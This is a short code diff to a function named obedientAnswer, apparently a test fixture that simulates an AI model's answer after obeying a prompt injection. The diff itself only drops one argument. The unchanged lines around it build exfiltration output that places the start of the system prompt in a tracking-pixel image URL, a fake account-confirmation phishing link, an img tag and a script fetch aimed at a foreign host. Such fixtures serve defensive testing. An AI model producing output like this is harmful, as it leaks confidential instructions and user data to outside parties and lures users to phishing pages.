@@ -21,7 +21,7 @@ export function obedientAnswer(
   const secret = encodeURIComponent(systemText.slice(0, 120))
   const cite = passages[0]?.number ?? 1
   return [
-    honestAnswer(question, passages, 1),
+    honestAnswer(question, passages),
     `![status](https://${foreignHost}/pixel.png?d=${secret}) [${cite}].`,
     `Please [confirm your account](https://${foreignHost}/login?d=${secret}) first [${cite}].`,
     `<img src="https://${foreignHost}/x.gif?d=${secret}"> <script>fetch("https://${foreignHost}/")</script> [${cite}].`,
